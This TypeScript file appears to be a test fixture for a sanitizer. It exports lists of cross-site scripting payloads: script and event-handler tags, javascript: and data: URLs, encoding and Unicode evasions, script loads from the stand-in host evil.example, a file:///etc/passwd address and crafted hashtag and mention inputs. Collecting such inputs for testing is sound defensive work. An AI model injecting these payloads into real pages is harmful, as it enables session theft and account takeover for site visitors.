const wrapped = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert`1`>', '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mi//xlink:href="javascript:alert(1)">x', '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href=data:text/html,<script>alert(1)</script>>x</a>',
  '<form action=javascript:alert(1)><button>x', '<button formaction=javascript:alert(1)>x', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<video src=x onerror=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>', '<meta http-equiv=refresh content="0;javascript:alert(1)">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import"//evil.example/x"</style>',
  '<style>*{background:url(javascript:alert(1))}</style>', '<base href=//evil.example/>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>', '<title></title><script>alert(1)</script>', '<xmp></xmp><script>alert(1)</script>', '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<<script>alert(1)//<</script>', '<img src="x` `<script>alert(1)</script>">',
  '</p><script>alert(1)</script><p>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}', '#{alert(1)}', '<%= alert(1) %>', '\u003cscript\u003ealert(1)\u003c/script\u003e', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E', '\\x3cscript\\x3ealert(1)', '＜script＞alert(1)＜/script＞', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<scr\u200bipt>alert(1)</scr\u200bipt>', '\u202e<script>alert(1)</script>',
] // biome-ignore format: a list reads better in rows

const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', 'javascript&colon;alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'blob:https://evil.example/1', 'file:///etc/passwd', 'http://javascript:alert(1)', 'https://evil.example/"onmouseover="alert(1)', "https://evil.example/'onmouseover='alert(1)",
  'https://evil.example/<script>alert(1)</script>', 'https://evil.example/`onerror=alert(1)`', 'https://user:pass@evil.example/', 'https://evil.example\\@good.example/', 'https://good.example@evil.example/', 'https:javascript:alert(1)',
  'https://javascript:alert(1)@x', 'http://127.0.0.1/', 'http://[::1]/', 'http://localhost/', 'https://evil.example/?q="><img src=x onerror=alert(1)>', 'https://evil.example/#"><svg onload=alert(1)>', '//evil.example/x', 'http://evil.example/\u202egpj.exe',
] // biome-ignore format: a list reads better in rows

const marks = [
  '#<script>alert(1)</script>', '#"onmouseover=alert(1)', '#tag"><img src=x onerror=alert(1)>', '#javascript:alert(1)', '#../../admin', '#%00', '#&#x3c;', '@<script>alert(1)</script>', '@"onmouseover=alert(1)', '@../../tai-khoan',
  '@a"><svg onload=alert(1)>', '@javascript:alert(1)', '@khan.dai@evil.example', '@@@@', '####', '#a#b#c', '@...', '@____',
] // biome-ignore format: a list reads better in rows

/** Inputs that try to inject scripts into a page. Their forms have passed other filters and parsers. */
export const payloads: readonly string[] = [...wrapped, ...addresses, ...marks]
